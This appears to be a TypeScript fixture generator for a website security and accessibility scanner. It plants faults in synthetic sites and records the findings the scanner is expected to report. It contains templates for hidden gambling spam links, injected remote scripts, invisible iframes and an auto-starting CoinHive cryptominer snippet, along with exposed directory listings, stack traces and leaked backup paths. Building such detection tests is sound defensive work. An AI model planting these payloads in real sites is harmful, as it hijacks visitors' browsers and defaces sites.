import { file, html, type Site } from './site.ts';
import type { World } from './world.ts';

type Planting = (url: string) => string;

/** Links that nobody sees, in the ways in which they are planted. */
const HIDDEN: readonly [Planting, ...Planting[]] = [
  (url) => `<div style="display:none"><a href="${url}">真人百家乐</a></div>`,
  (url) => `<div style="position:absolute;left:-9999px;top:-9999px"><a href="${url}">澳门金沙</a></div>`,
  (url) => `<a href="${url}" style="font-size:0;line-height:0">时时彩平台</a>`,
  (url) => `<marquee height="0" width="0" scrollamount="9000"><a href="${url}">六合彩资料</a></marquee>`,
  (url) => `<div style="height:0;overflow:hidden"><a href="${url}">私服发布网</a></div>`,
  (url) => `<p style="text-indent:-10000px"><a href="${url}">网上棋牌</a></p>`,
  (url) => `<span style="visibility:hidden"><a href="${url}">电子游艺</a></span>`,
];

/** What a page is made to load. */
const INJECTED: readonly [Planting, ...Planting[]] = [
  (url) => `<script src="${url}j.js"></script>`,
  (url) => `<iframe src="${url}" width="0" height="0" frameborder="0"></iframe>`,
  (url) =>
    `<script src="${url}wakuang/miner.min.js"></script><script>var m=new CoinHive.Anonymous("k8Qz",{throttle:0.2});m.start();</script>`,
  (url) => `<iframe src="${url}" style="display:none"></iframe>`,
];

const TRACES: readonly [string, ...string[]] = [
  '<html><head><title>HTTP Status 500</title></head><body><h1>HTTP Status 500 - Internal Server Error</h1><pre>java.lang.NullPointerException\n\tat com.site.news.NewsAction.list(NewsAction.java:118)\n\tat org.apache.struts2.dispatcher.Dispatcher.serviceAction(Dispatcher.java:562)\n\tat javax.servlet.http.HttpServlet.service(HttpServlet.java:790)</pre><h3>Apache Tomcat/7.0.69</h3></body></html>',
  "<html><body><h1>Server Error in '/' Application.</h1><h2><i>Incorrect syntax near '&#39;'.</i></h2><b>Stack Trace:</b><pre>[SqlException (0x80131904): Incorrect syntax]\n   System.Data.SqlClient.SqlConnection.OnError(SqlException exception) +212\n   Site.News.Page_Load(Object sender, EventArgs e) in d:\\web\\news.aspx.cs:41</pre></body></html>",
  "<br />\n<b>Fatal error</b>:  Uncaught PDOException: SQLSTATE[HY000] [2002] Connection refused in /www/web/lib/db.php:23\nStack trace:\n#0 /www/web/lib/db.php(23): PDO->__construct('mysql:host=loc...')\n#1 /www/web/query.php(9): Db->open()\n#2 {main}\n  thrown in <b>/www/web/lib/db.php</b> on line <b>23</b><br />",
];

const LISTING = (path: string): string =>
  `<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 3.2 Final//EN">\n<html><head><title>Index of ${path}</title></head><body><h1>Index of ${path}</h1><table><tr><th><a href="?C=N;O=D">Name</a></th><th>Last modified</th></tr><tr><td><a href="/">Parent Directory</a></td><td>&nbsp;</td></tr><tr><td><a href="/images/scene.jpg">scene.jpg</a></td><td>2025-03-01 10:00</td></tr></table><address>Apache/2.2.15 (CentOS) Server</address></body></html>`;

const LEAKS: readonly [string, ...string[]] = [
  '/wwwroot.rar',
  '/db_backup.sql',
  '/.git/config',
  '/web.config.bak',
  '/www.tar.gz',
];

/** What attackers plant and what servers give away. */
export function injectSecurityFaults(site: Site, world: World): void {
  const { luck, extras } = { ...site.traits, extras: site.extras };
  for (let round = 0; round < 3 && site.traits.hasWorld; round += 1) {
    const target = world.gambling();
    const page = site.take();
    page.tail.push(luck.pick(HIDDEN)(target));
    site.expect({
      codes: ['security.hidden-link'],
      urls: [site.url(page.path)],
      targets: [target],
      about: page.tail.at(-1) ?? '',
    });
  }
  for (let round = 0; round < 3 && site.traits.hasWorld; round += 1) {
    const page = site.take();
    const planting = luck.pick(INJECTED)(world.gambling());
    page.tail.push(planting);
    site.expect({ codes: ['security.injected'], urls: [site.url(page.path)], about: planting });
    // A planted frame has no name either; nobody needs to be told.
    site.expect({ codes: ['a11y.frame'], urls: [site.url(page.path)], open: true, about: planting });
  }
  const folder = `/upload/${luck.digits(6)}/`;
  for (const order of ['', '?C=N;O=D']) extras.set(folder + order, html(LISTING(folder)));
  lead(site, folder, '往期图片');
  // The same folder in another order: true as well, whether or not it is told again.
  site.expect({
    codes: ['security.exposed'],
    urls: [site.url(`${folder}?C=N;O=D`)],
    open: true,
    about: folder,
  });
  const query = `/query/result.jsp?id=${luck.digits(5)}`;
  extras.set(query, html(luck.pick(TRACES)));
  lead(site, query, '结果查询');
  const leak = luck.pick(LEAKS);
  extras.set(
    leak,
    file(
      leak.endsWith('config') ? 'text/plain' : 'application/octet-stream',
      '[core]\n\trepositoryformatversion = 0\n',
    ),
  );
  lead(site, leak, '资料下载');
}

function lead(site: Site, path: string, words: string): void {
  const page = site.take();
  page.content.push(`<p>另见<a href="${site.href(path)}">${words}</a>。</p>`);
  site.expect({ codes: ['security.exposed'], near: [path, page.path].map(site.url), about: path });
}
